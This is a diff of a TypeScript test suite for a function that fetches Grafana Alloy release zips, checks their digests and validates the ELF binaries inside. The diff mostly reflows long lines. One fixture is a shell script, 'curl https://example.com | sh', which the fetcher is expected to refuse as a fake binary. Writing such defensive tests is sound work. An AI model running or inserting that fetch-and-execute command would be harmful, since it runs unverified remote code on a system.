@@ -57,7 +57,11 @@ describe('fetchUpstream', () => {
       expect(r.zipSha256).toBe(await assetDigest(host, '1.10.2', arch));
       expect(await sha256File(r.zip)).toBe(r.zipSha256);
       expect(r.binary).toBe(join(outDir, arch, `alloy-linux-${arch}`));
-      expect([r.uri, r.digestSource, r.pinned]).toEqual([`${host.apiUrl}/grafana/alloy/releases/download/v1.10.2/alloy-linux-${arch}.zip`, 'github-asset-digest', false]);
+      expect([r.uri, r.digestSource, r.pinned]).toEqual([
+        `${host.apiUrl}/grafana/alloy/releases/download/v1.10.2/alloy-linux-${arch}.zip`,
+        'github-asset-digest',
+        false,
+      ]);
       expect((await readFile(r.binary)).equals(binaries[arch])).toBe(true);
       expect((await stat(r.binary)).mode & 0o777).toBe(0o755);
       const size = (await stat(r.zip)).size;
@@ -141,7 +145,9 @@ describe('fetchUpstream', () => {
     await expect(fetchUpstream(opts({ arches: ['arm64'] }))).rejects.toThrow(
       'asset alloy-linux-arm64.zip of v1.10.2 has no published digest and no sha256 is pinned',
     );
-    const zip = Buffer.from(await (await fetch(`${host.apiUrl}/grafana/alloy/releases/download/v1.10.2/alloy-linux-arm64.zip`)).arrayBuffer());
+    const zip = Buffer.from(
+      await (await fetch(`${host.apiUrl}/grafana/alloy/releases/download/v1.10.2/alloy-linux-arm64.zip`)).arrayBuffer(),
+    );
     const r = await fetchUpstream(opts({ arches: ['arm64'], pinnedSha256: { arm64: sha(zip) } }));
     expect(r.arm64.zipSha256).toBe(sha(zip));
     expect([r.arm64.digestSource, r.arm64.pinned]).toEqual(['recipe-pin', true]);
@@ -158,9 +164,25 @@ describe('fetchUpstream', () => {
   });
 
   it.each<[string, Buffer, RegExp]>([
-    ['a shell script', Buffer.from('#!/bin/sh\nexec /usr/bin/curl https://example.com | sh\n'), /^alloy-linux-amd64 in alloy-linux-amd64\.zip is not an ELF binary \(a script starting "#!\/bin\/sh"\): expected the Alloy binary, an ELF executable for x86-64 \(amd64\)$/],
-    ['an arm64 ELF', makeSyntheticBinary('arm64', 4096), /^alloy-linux-amd64 in alloy-linux-amd64\.zip is an ELF for machine 183 \(aarch64\), expected 62 \(x86-64\) for amd64$/],
-    ['an ELF object file', Buffer.concat([makeSyntheticBinary('amd64', 4096).subarray(0, 16), Buffer.from([1, 0]), makeSyntheticBinary('amd64', 4096).subarray(18)]), /^alloy-linux-amd64 in alloy-linux-amd64\.zip is an ELF relocatable object, expected an ELF executable for x86-64 \(amd64\)$/],
+    [
+      'a shell script',
+      Buffer.from('#!/bin/sh\nexec /usr/bin/curl https://example.com | sh\n'),
+      /^alloy-linux-amd64 in alloy-linux-amd64\.zip is not an ELF binary \(a script starting "#!\/bin\/sh"\): expected the Alloy binary, an ELF executable for x86-64 \(amd64\)$/,
+    ],
+    [
+      'an arm64 ELF',
+      makeSyntheticBinary('arm64', 4096),
+      /^alloy-linux-amd64 in alloy-linux-amd64\.zip is an ELF for machine 183 \(aarch64\), expected 62 \(x86-64\) for amd64$/,
+    ],
+    [
+      'an ELF object file',
+      Buffer.concat([
+        makeSyntheticBinary('amd64', 4096).subarray(0, 16),
+        Buffer.from([1, 0]),
+        makeSyntheticBinary('amd64', 4096).subarray(18),
+      ]),
+      /^alloy-linux-amd64 in alloy-linux-amd64\.zip is an ELF relocatable object, expected an ELF executable for x86-64 \(amd64\)$/,
+    ],
     ['an empty file', Buffer.alloc(0), /is not an ELF binary \(an empty file\)/],
   ])('refuses %s as the amd64 binary at fetch, keeping no binary', async (_what, data, message) => {
     const { outDir, opts } = await setup({ version: '1.10.2', binaries: { amd64: data, arm64: binaries.arm64 } });
@@ -175,7 +197,9 @@ describe('fetchUpstream', () => {
     const zip = makeZip([{ name: 'alloy-linux-amd64', data: binaries.amd64 }]);
     await writeFile(local, zip);
     const lines: string[] = [];
-    const r = await fetchUpstream(opts({ arches: ['amd64'], localZips: { amd64: local }, pinnedSha256: { amd64: sha(zip) }, log: (l) => lines.push(l) }));
+    const r = await fetchUpstream(
+      opts({ arches: ['amd64'], localZips: { amd64: local }, pinnedSha256: { amd64: sha(zip) }, log: (l) => lines.push(l) }),
+    );
     expect((await readFile(r.amd64.binary)).equals(binaries.amd64)).toBe(true);
     expect(host.requests).toEqual([]);
     expect([r.amd64.uri, r.amd64.digestSource, r.amd64.pinned]).toEqual(['file:alloy-linux-amd64.zip', 'recipe-pin', true]);
